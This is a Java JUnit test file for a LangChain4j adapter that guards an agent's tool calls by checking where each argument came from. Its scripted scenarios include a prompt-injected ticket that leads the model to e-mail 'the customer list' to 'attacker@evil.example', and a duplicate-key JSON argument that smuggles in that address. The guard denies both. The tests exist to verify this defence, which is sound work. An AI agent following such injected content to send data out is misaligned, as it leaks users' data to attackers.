package io.ape.langchain4j;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.langchain4j.agent.tool.ToolSpecification;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import dev.langchain4j.invocation.InvocationParameters;
import dev.langchain4j.model.chat.request.json.JsonObjectSchema;
import dev.langchain4j.service.AiServices;
import dev.langchain4j.service.tool.ToolExecutor;
import dev.langchain4j.service.tool.ToolProvider;
import dev.langchain4j.service.tool.ToolProviderResult;
import io.ape.api.CallStatus;
import io.ape.api.GuardedCallResult;
import io.ape.api.Provenance;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/**
 * The real LangChain4j {@code AiServices} tool loop, driven by a scripted model, with every tool
 * guarded. The engine is a test double ({@link FakeEngine}) with the real provenance tracker;
 * the rule: {@code sendEmail}'s {@code to} must come from the user.
 */
class LangChain4jAgentTest {
  static final String USER = "Read ticket 4711 and e-mail a short summary to bob@acme.com";
  static final String DENIED_TEXT =
      "APE denied this tool call: it is not permitted by the security policy.";

  FakeEngine engine;
  FakeEngine.FakeSession session;
  ScriptedChatModel model;

  @BeforeEach
  void setUp() {
    engine = new FakeEngine();
    engine.trustedParameters.put("sendEmail", Set.of("to"));
    session = engine.openSession("s-1");
    model = new ScriptedChatModel();
  }

  Assistant assistant(ApeToolGuard guard, TicketTools tools) {
    return AiServices.builder(Assistant.class).chatModel(model).tools(guard.tools(tools)).build();
  }

  InvocationParameters inSession() {
    return InvocationParameters.from(ApeLangChain4j.SESSION, session);
  }

  @Test
  void aBenignTaskCompletes() {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    model.callTool("getTicket", "{\"id\":\"4711\"}")
        .callTool("sendEmail", "{\"to\":\"bob@acme.com\",\"subject\":\"Ticket 4711\","
            + "\"body\":\"The printer on floor 3 jams.\"}")
        .answer("Done: Bob has the summary.");
    String answer = assistant(ApeLangChain4j.guard(engine).build(), tools).chat(USER, inSession());

    assertThat(answer).isEqualTo("Done: Bob has the summary.");
    assertThat(tools.read).containsExactly("4711");
    assertThat(tools.sent).containsExactly(
        "bob@acme.com|Ticket 4711|The printer on floor 3 jams.");
    assertThat(session.userMessages).containsExactly(USER); // recorded once per invocation
    assertThat(model.toolResults()).extracting(ToolExecutionResultMessage::text)
        .containsExactly(TicketTools.BENIGN, "sent to bob@acme.com");
    assertThat(engine.audit).hasSize(2).allMatch(line -> line.contains("EXECUTED"));
  }

  @Test
  void anInjectedRecipientIsDeniedAndTheModelGetsTheTerseError() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    model.callTool("getTicket", "{\"id\":\"4711\"}")
        .callTool("sendEmail", "{\"to\":\"attacker@evil.example\",\"subject\":\"Customers\","
            + "\"body\":\"the customer list\"}")
        .answer("I could not send that e-mail.");
    String answer = assistant(ApeLangChain4j.guard(engine).build(), tools).chat(USER, inSession());

    assertThat(answer).isEqualTo("I could not send that e-mail.");
    assertThat(tools.sent).isEmpty();
    ToolExecutionResultMessage refusal = model.toolResults().get(1);
    assertThat(refusal.text()).isEqualTo(DENIED_TEXT);
    assertThat(refusal.isError()).isTrue();
    assertThat(refusal.text()).doesNotContain("rule", "EXTERNAL", "send-requires");
    // the operators' channel has the full reason and the labels
    assertThat(engine.audit.get(1)).contains("DENIED", "send-requires-trusted-recipient",
        "to=EXTERNAL_UNTRUSTED");
  }

  @Test
  void inAbortModeTheRefusalEndsTheAiServiceCall() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    model.callTool("getTicket", "{\"id\":\"4711\"}")
        .callTool("sendEmail", "{\"to\":\"attacker@evil.example\",\"subject\":\"x\","
            + "\"body\":\"y\"}")
        .answer("never reached");
    ApeToolGuard guard = ApeLangChain4j.guard(engine).refusalMode(RefusalMode.ABORT).build();
    Assistant assistant = AiServices.builder(Assistant.class).chatModel(model)
        .tools(guard.tools(tools)).toolExecutionErrorHandler(ApeLangChain4j.abortOnRefusal())
        .build();

    assertThatThrownBy(() -> assistant.chat(USER, inSession()))
        .isInstanceOf(ApeToolRefusedException.class)
        .hasMessage(DENIED_TEXT)
        .satisfies(e -> {
          GuardedCallResult r = ((ApeToolRefusedException) e).result();
          assertThat(r.status()).isEqualTo(CallStatus.DENIED);
          assertThat(r.parameterLabels()).containsEntry("to", Provenance.EXTERNAL_UNTRUSTED);
        });
    assertThat(tools.sent).isEmpty();
  }

  @Nested
  class TheToolDoesNotRunWhen {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);

    String runSendEmail(ApeToolGuard guard, String arguments, InvocationParameters parameters) {
      model.callTool("sendEmail", arguments).answer("after");
      assertThat(assistant(guard, tools).chat(USER, parameters)).isEqualTo("after");
      return model.toolResults().get(0).text();
    }

    @Test
    void theCallHasNoSession() {
      String text = runSendEmail(ApeLangChain4j.guard(engine).build(),
          "{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}", new InvocationParameters());
      assertThat(text).isEqualTo(
          "APE refused this tool call: the call or its arguments are invalid.");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theArgumentsAreNotOneJsonObjectWithoutDuplicateKeys() {
      for (String bad : List.of("{\"to\":\"bob@acme.com\",\"to\":\"attacker@evil.example\","
          + "\"subject\":\"s\",\"body\":\"b\"}", "{not json", "[1,2]", "{\"to\":1} trailing",
          "{\"to\":NaN}", "[".repeat(100))) {
        model = new ScriptedChatModel();
        String text = runSendEmail(ApeLangChain4j.guard(new FakeEngine()).build(), bad,
            inSession());
        assertThat(text).as(bad).startsWith("APE refused this tool call");
      }
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theEngineFails() {
      engine.failure = new IllegalStateException("audit sink unavailable: disk full");
      String text = runSendEmail(ApeLangChain4j.guard(engine).build(),
          "{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}", inSession());
      assertThat(text).isEqualTo("APE refused this tool call: it could not be checked safely.")
          .doesNotContain("disk");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theGateRunsTheToolOnAnotherThread() {
      engine.runner = (tool, parameters) -> CompletableFuture.supplyAsync(() -> {
        try {
          return tool.invoke(parameters);
        } catch (Exception e) {
          throw new IllegalStateException(e);
        }
      }).get(10, TimeUnit.SECONDS);
      session.recordUserMessage(USER);
      String text = runSendEmail(ApeLangChain4j.guard(engine).build(),
          "{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}", inSession());
      assertThat(text).isEqualTo("The tool failed while running.");
      assertThat(tools.sent).isEmpty();
    }

    @Test
    void theSessionMappingThrows() {
      ApeToolGuard guard = ApeLangChain4j.guard(engine)
          .sessions((invocation, e) -> {
            throw new IllegalStateException("session store down");
          }).build();
      String text = runSendEmail(guard,
          "{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}", inSession());
      assertThat(text).isEqualTo("APE refused this tool call: it could not be checked safely.");
      assertThat(tools.sent).isEmpty();
    }
  }

  @Test
  void theToolRunsWithTheBoundParametersNotTheModelsArguments() {
    engine.binding = proposed -> Map.of("to", "bob@acme.com", "subject", "bound subject",
        "body", "bound body");
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    model.callTool("sendEmail", "{\"to\":\"bob@acme.com\",\"subject\":\"s\",\"body\":\"b\"}")
        .answer("ok");
    assistant(ApeLangChain4j.guard(engine).build(), tools).chat(USER, inSession());
    assertThat(tools.sent).containsExactly("bob@acme.com|bound subject|bound body");
  }

  @Test
  void programmaticToolsAndToolProvidersAreGuardedAndRegisteredOnce() {
    AtomicInteger runs = new AtomicInteger();
    ToolSpecification lookup = ToolSpecification.builder().name("lookup")
        .parameters(JsonObjectSchema.builder().addStringProperty("customer").build()).build();
    ToolExecutor executor = (request, memoryId) -> "customer " + runs.incrementAndGet();
    ApeToolGuard guard = ApeLangChain4j.guard(engine).build();
    ToolProvider provider = request -> new ToolProviderResult(Map.of(lookup, executor));
    ToolProvider guarded = guard.toolProvider(provider);

    model.callTool("lookup", "{\"customer\":\"acme\"}").callTool("lookup",
        "{\"customer\":\"acme\"}").answer("ok");
    Assistant assistant = AiServices.builder(Assistant.class).chatModel(model)
        .toolProvider(guarded).build();
    assertThat(assistant.chat("look up acme twice", inSession())).isEqualTo("ok");
    assertThat(runs).hasValue(2);
    assertThat(engine.registrations).hasValue(1);
    assertThat(engine.audit).hasSize(2);

    Map<ToolSpecification, ToolExecutor> map = guard.tools(Map.of(lookup, executor));
    assertThat(map.get(lookup).toString()).isEqualTo("ApeGuarded[lookup]");
    assertThat(engine.registrations).hasValue(1);
    // a refusal on the programmatic path too: an unknown session
    assertThat(map.get(lookup).execute(dev.langchain4j.agent.tool.ToolExecutionRequest.builder()
        .id("x").name("lookup").arguments("{}").build(), "memory-1"))
        .startsWith("APE refused");
    assertThat(runs).hasValue(2);
  }

  @Test
  void theSessionCanBeNamedByIdOrByMemoryId() {
    TicketTools tools = new TicketTools(TicketTools.BENIGN);
    model.callTool("getTicket", "{\"id\":\"1\"}").answer("a");
    InvocationParameters byId = InvocationParameters.from(Map.of(ApeLangChain4j.SESSION, "s-1",
        ApeLangChain4j.TENANT, "acme"));
    assertThat(assistant(ApeLangChain4j.guard(engine).build(), tools).chat(USER, byId))
        .isEqualTo("a");
    assertThat(tools.read).containsExactly("1");

    model.callTool("getTicket", "{\"id\":\"2\"}").answer("b");
    InvocationParameters otherTenant = InvocationParameters.from(Map.of(
        ApeLangChain4j.SESSION, "s-1", ApeLangChain4j.TENANT, "globex"));
    assertThat(assistant(ApeLangChain4j.guard(new FakeEngine()).build(), tools)
        .chat(USER, otherTenant)).isEqualTo("b");
    assertThat(tools.read).containsExactly("1"); // no such session in that tenant: refused
  }

  @Test
  void builderOptionsAreSetOnce() {
    ApeLangChain4j.Builder builder = ApeLangChain4j.guard(engine).refusalMode(RefusalMode.ABORT);
    assertThatThrownBy(() -> builder.refusalMode(RefusalMode.TOOL_ERROR))
        .isInstanceOf(IllegalStateException.class).hasMessageContaining("refusalMode");
    assertThatThrownBy(() -> ApeLangChain4j.guard(null)).isInstanceOf(NullPointerException.class);
  }
}
